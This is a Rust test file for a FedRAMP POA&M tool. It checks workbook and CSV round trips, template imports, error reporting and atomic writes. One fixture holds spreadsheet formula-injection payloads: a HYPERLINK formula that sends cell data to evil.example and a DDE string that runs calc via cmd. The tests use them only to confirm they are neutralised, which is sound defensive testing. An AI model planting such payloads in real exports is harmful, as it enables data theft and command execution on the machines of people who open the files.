//! Deliverable formats: the POA&M workbook and CSV (round trips, formula injection, the real
//! templates, provider-style workbooks, unreadable cells) and atomic writes.

use std::path::Path;

use calamine::{Data, Reader};
use chrono::NaiveDate;
use conmon_core::io::{csv as poam_csv, xlsx};
use conmon_core::model::{AssetRef, Poam, PoamItem, RiskRating};
use conmon_tests::{sample_poam, shared_corpus};

fn d(s: &str) -> NaiveDate {
    s.parse().unwrap()
}

fn assert_same(a: &Poam, b: &Poam) {
    assert_eq!(a.header, b.header);
    for (name, x, y) in [
        ("open", &a.open, &b.open),
        ("closed", &a.closed, &b.closed),
        ("configuration", &a.configuration_findings, &b.configuration_findings),
    ] {
        assert_eq!(x.len(), y.len(), "{name}");
        for (i, j) in x.iter().zip(y) {
            assert_eq!(i, j, "{name} item {}", i.poam_id);
        }
    }
    assert_eq!(a.id_high_water, b.id_high_water);
}

#[test]
fn workbook_round_trip_of_10000_items() {
    let poam = sample_poam(10_000, 7);
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("poam.xlsx");
    xlsx::write_poam_file(&poam, &path).unwrap();
    let back = xlsx::read_poam(&path).unwrap();
    assert!(back.problems.is_empty(), "{:?}", &back.problems[..back.problems.len().min(5)]);
    assert!(back.ignored_columns.is_empty(), "{:?}", back.ignored_columns);
    assert_same(&back.poam, &poam);
    assert_eq!(back.poam, poam);
}

#[test]
fn csv_round_trip_of_10000_items() {
    let poam = sample_poam(10_000, 8);
    let mut buf = Vec::new();
    poam_csv::write_poam(&poam, &mut buf, "poam.csv").unwrap();
    let back = poam_csv::read_poam(buf.as_slice(), "poam.csv").unwrap();
    assert!(back.problems.is_empty(), "{:?}", &back.problems[..back.problems.len().min(5)]);
    // CSV carries items, not the header block.
    let mut poam = poam;
    poam.header = Default::default();
    assert_same(&back.poam, &poam);
}

/// Every free-text column of one item starts with one of the risky characters.
fn risky_poam() -> Poam {
    let leads = ["=", "+", "-", "@", "\t", "\r"];
    let mut poam = Poam::default();
    for (k, lead) in leads.iter().enumerate() {
        let mut item = PoamItem::new(format!("V-{}", k + 1), d("2026-01-05"), RiskRating::High);
        item.weakness_name = format!("{lead}HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
        item.weakness_description = format!("{lead}1+1");
        item.overall_remediation_plan = format!("{lead}cmd|' /C calc'!A0");
        item.point_of_contact = format!("{lead}SUM(1,2)");
        item.comments = Some(format!("{lead}2+3"));
        item.deviation_rationale = Some(format!("'{lead}already quoted"));
        poam.open.push(item);
    }
    poam.id_high_water = 6;
    poam
}

fn risky_texts(item: &PoamItem) -> Vec<&str> {
    vec![
        &item.weakness_name,
        &item.weakness_description,
        &item.overall_remediation_plan,
        &item.point_of_contact,
        item.comments.as_deref().unwrap(),
        item.deviation_rationale.as_deref().unwrap(),
    ]
}

#[test]
fn formula_injection_is_neutralised_in_the_workbook() {
    let poam = risky_poam();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("poam.xlsx");
    xlsx::write_poam_file(&poam, &path).unwrap();
    // No cell of the workbook is a formula: every risky text is a string cell.
    let mut wb = calamine::open_workbook_auto(&path).unwrap();
    let formulas = wb.worksheet_formula("Open POA&M Items").unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "a formula was written");
    let range = wb.worksheet_range("Open POA&M Items").unwrap();
    for item in &poam.open {
        for text in risky_texts(item) {
            let found = range.used_cells().any(|(_, _, c)| matches!(c, Data::String(s) if s == text));
            assert!(found, "{text:?} is not a string cell");
        }
    }
    // The risky strings carry a quote-prefix style (Excel's "text, never a formula" flag).
    let styles = unzip_entry(&path, "xl/styles.xml");
    assert!(styles.contains("quotePrefix=\"1\""), "no quote-prefix style");
    // And read back to the original text.
    let back = xlsx::read_poam(&path).unwrap();
    assert!(back.problems.is_empty(), "{:?}", back.problems);
    assert_eq!(back.poam.open, poam.open);
}

#[test]
fn formula_injection_is_neutralised_in_csv() {
    let poam = risky_poam();
    let mut buf = Vec::new();
    poam_csv::write_poam(&poam, &mut buf, "poam.csv").unwrap();
    let mut r = csv::ReaderBuilder::new().has_headers(true).from_reader(buf.as_slice());
    let mut fields = 0;
    for rec in r.records() {
        for f in rec.unwrap().iter() {
            fields += 1;
            assert!(!matches!(f.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')), "{f:?}");
        }
    }
    assert_eq!(fields, 6 * 32);
    let back = poam_csv::read_poam(buf.as_slice(), "poam.csv").unwrap();
    assert_eq!(back.poam.open, poam.open);
    for (a, b) in back.poam.open.iter().zip(&poam.open) {
        assert_eq!(risky_texts(a), risky_texts(b));
    }
}

/// The text of one entry of the xlsx container (calamine does not expose styles).
fn unzip_entry(path: &Path, name: &str) -> String {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut text = String::new();
    zip.by_name(name).unwrap().read_to_string(&mut text).unwrap();
    text
}

#[test]
fn the_real_fedramp_template_imports_without_error() {
    let Some(corpus) = shared_corpus() else {
        eprintln!("skipped: ../shared/corpus is absent");
        return;
    };
    let path = corpus.join("poam/fedramp-gov__FedRAMP-POAM-Template.xlsx");
    let got = xlsx::read_poam(&path).unwrap();
    assert!(got.problems.is_empty(), "{:?}", got.problems);
    // Guidance (row 6), format hints (row 7), the example V-1Example (row 8) and the formula-only
    // row 9 are not items.
    assert_eq!(got.poam.items().count(), 0);
    assert!(got.ignored_columns.is_empty(), "{:?}", got.ignored_columns);
}

#[test]
fn the_real_inventory_template_imports_without_error() {
    let Some(corpus) = shared_corpus() else {
        eprintln!("skipped: ../shared/corpus is absent");
        return;
    };
    let path = corpus.join("poam/fedramp-gov__SSP-Appendix-M-Integrated-Inventory-Workbook-Template.xlsx");
    let got = xlsx::read_inventory(&path).unwrap();
    assert!(got.problems.is_empty(), "{:?}", got.problems);
    // Every row of the template is guidance or an example, labelled in column A.
    assert!(got.assets.is_empty(), "{:?}", got.assets.first());
}

/// A provider's workbook: its own sheet name, a title block of other size, the template's
/// columns shuffled, two extra columns, the plugin ID as a number, dates as dates, as text and as
/// serial numbers, lower-case list values, blank and formula-only rows, and trailing blank rows.
#[test]
fn a_provider_workbook_with_shuffled_and_extra_columns_imports() {
    use rust_xlsxwriter::{Format, Workbook};
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("provider.xlsx");
    let mut wb = Workbook::new();
    let ws = wb.add_worksheet();
    ws.set_name("POAM Export").unwrap();
    ws.write(0, 0, "ACME Cloud POA&M, exported 2026-03-13").unwrap();
    let headers = [
        "Internal Ticket",
        "Original Risk Rating",
        "Asset Identifier",
        "POA&M ID",
        "Weakness Name",
        "Original Detection Date",
        "Scheduled Completion Date",
        "Weakness Source Identifier",
        "Weakness Detector Source",
        "Status Date",
        "Risk Adjustment",
        "False Positive",
        "Operational Requirement",
        "Adjusted Risk Rating",
        "Vendor Dependency",
        "Planned Milestones",
        "CVE",
        "Owner notes",
    ];
    for (c, h) in headers.iter().enumerate() {
        ws.write(2, c as u16, *h).unwrap();
    }
    let date = Format::new().set_num_format("mm/dd/yyyy");
    // Row 4: a real item, dates as Excel dates, plugin ID a number.
    ws.write(3, 0, "JIRA-1").unwrap();
    ws.write(3, 1, "high").unwrap();
    ws.write(3, 2, "10.1.0.5 (443/tcp)\n10.1.0.6").unwrap();
    ws.write(3, 3, "ACME-0450").unwrap();
    ws.write(3, 4, "OpenSSL vulnerable").unwrap();
    ws.write_date_with_format(3, 5, d("2026-01-12"), &date).unwrap();
    ws.write_date_with_format(3, 6, d("2026-02-11"), &date).unwrap();
    ws.write(3, 7, 187_315).unwrap();
    ws.write(3, 8, "Nessus").unwrap();
    ws.write(3, 9, "03/01/2026").unwrap();
    ws.write(3, 10, "no").unwrap();
    ws.write(3, 11, "No").unwrap();
    ws.write(3, 12, "no").unwrap();
    ws.write(3, 13, "N/A").unwrap();
    ws.write(3, 14, "No").unwrap();
    ws.write(3, 15, "(1) 2026-02-11: Patch\n\n(2) 2026/02/01: Test").unwrap();
    ws.write(3, 16, "CVE-2026-0001, CVE-2026-0002").unwrap();
    ws.write(3, 17, "ask Bob").unwrap();
    // Row 5: dates as text and as serial numbers; an RA.
    ws.write(4, 1, "Moderate").unwrap();
    ws.write(4, 2, "db.acme.internal").unwrap();
    ws.write(4, 3, "ACME-0451").unwrap();
    ws.write(4, 4, "Weak TLS").unwrap();
    ws.write(4, 5, "2026-01-20").unwrap();
    ws.write(4, 6, 46132.0).unwrap(); // 2026-04-20
    ws.write(4, 10, "Yes").unwrap();
    ws.write(4, 13, "Low").unwrap();
    // Row 6: a formula-only row, as in the template; rows 7-9 blank.
    ws.write_formula(5, 6, "=F6+90").unwrap();
    ws.write(9, 17, "").unwrap();
    wb.save(&path).unwrap();

    let got = xlsx::read_poam(&path).unwrap();
    assert!(got.problems.is_empty(), "{:?}", got.problems);
    assert_eq!(got.ignored_columns, ["POAM Export!A3: Internal Ticket", "POAM Export!R3: Owner notes"]);
    assert_eq!(got.poam.open.len(), 2);
    let a = &got.poam.open[0];
    assert_eq!(a.poam_id, "ACME-0450");
    assert_eq!(a.original_risk_rating, RiskRating::High);
    assert_eq!(a.weakness_source_identifier, "187315");
    assert_eq!(a.assets, [AssetRef::host("10.1.0.5").with_port(443, "tcp"), AssetRef::host("10.1.0.6")]);
    assert_eq!(a.original_detection_date, d("2026-01-12"));
    assert_eq!(a.scheduled_completion_date, Some(d("2026-02-11")));
    assert_eq!(a.status_date, Some(d("2026-03-01")));
    assert_eq!(a.planned_milestones.len(), 2);
    assert_eq!(a.planned_milestones[1].date, d("2026-02-01"));
    assert_eq!(a.cves, ["CVE-2026-0001", "CVE-2026-0002"]);
    assert_eq!(a.adjusted_risk_rating, None);
    let b = &got.poam.open[1];
    assert_eq!(b.original_detection_date, d("2026-01-20"));
    assert_eq!(b.scheduled_completion_date, Some(d("2026-04-20")));
    assert_eq!(b.risk_adjustment, conmon_core::model::DeviationFlag::Yes);
    assert_eq!(b.effective_risk_rating(), RiskRating::Low);
    assert_eq!(got.poam.id_high_water, 451);
}

/// Unreadable cells are all reported, each with sheet, row and column; readable items are kept.
#[test]
fn unreadable_cells_are_reported_with_sheet_row_and_column() {
    use rust_xlsxwriter::Workbook;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("bad.xlsx");
    let mut wb = Workbook::new();
    let ws = wb.add_worksheet();
    ws.set_name("Open POA&M Items").unwrap();
    for (c, h) in
        ["POAM ID", "Original Detection Date", "Original Risk Rating", "Risk Adjustment", "Planned Milestones"]
            .iter()
            .enumerate()
    {
        ws.write(4, c as u16, *h).unwrap();
    }
    let rows: [[&str; 5]; 4] = [
        ["V-1", "2026-01-05", "High", "No", "(1) 2026-02-04: Patch"],
        ["V-2", "2026-02-30", "High", "No", ""],
        ["V-3", "2026-01-05", "Critical", "Approved", ""],
        ["V-4", "2026-01-05", "Low", "No", "1) soon: patch"],
    ];
    for (r, row) in rows.iter().enumerate() {
        for (c, v) in row.iter().enumerate() {
            ws.write(5 + r as u32, c as u16, *v).unwrap();
        }
    }
    wb.save(&path).unwrap();
    let got = xlsx::read_poam(&path).unwrap();
    let ids: Vec<&str> = got.poam.open.iter().map(|i| i.poam_id.as_str()).collect();
    assert_eq!(ids, ["V-1", "V-4"]);
    let at: Vec<(String, u64, u64, String)> = got
        .problems
        .iter()
        .map(|p| {
            let l = &p.location;
            (l.sheet.clone().unwrap(), l.row.unwrap(), l.column.unwrap(), l.field.clone().unwrap())
        })
        .collect();
    let sheet = "Open POA&M Items".to_string();
    assert_eq!(
        at,
        [
            (sheet.clone(), 7, 2, "K (Original Detection Date)".to_string()),
            (sheet.clone(), 8, 3, "S (Original Risk Rating)".to_string()),
            (sheet.clone(), 8, 4, "U (Risk Adjustment)".to_string()),
            (sheet.clone(), 9, 5, "M (Planned Milestones)".to_string()),
        ],
        "{:#?}",
        got.problems
    );
    assert!(got.problems[1].message.contains("`critical` is not a FedRAMP risk rating"), "{}", got.problems[1].message);
    assert_eq!(got.problems[0].code, "invalid_value");
}

#[test]
fn a_failed_write_never_replaces_the_previous_workbook() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("poam.xlsx");
    let good = sample_poam(20, 1);
    xlsx::write_poam_file(&good, &path).unwrap();
    let before = std::fs::read(&path).unwrap();
    // Excel cannot hold dates before 1900: the write fails, naming the item and the cell.
    let mut bad = sample_poam(50, 2);
    let item = bad.open.get_mut(3).unwrap();
    item.original_detection_date = d("1850-01-01");
    let id = item.poam_id.clone();
    let err = xlsx::write_poam_file(&bad, &path).unwrap_err();
    assert!(err.to_string().contains(&format!("item {id}")), "{err}");
    assert_eq!(err.location().sheet.as_deref(), Some("Open POA&M Items"));
    assert_eq!(err.location().row, Some(9));
    assert_eq!(err.location().field.as_deref(), Some("K (Original Detection Date)"));
    assert_eq!(std::fs::read(&path).unwrap(), before);
    let left: Vec<_> = std::fs::read_dir(dir.path()).unwrap().collect();
    assert_eq!(left.len(), 1, "a temporary file was left behind");
}
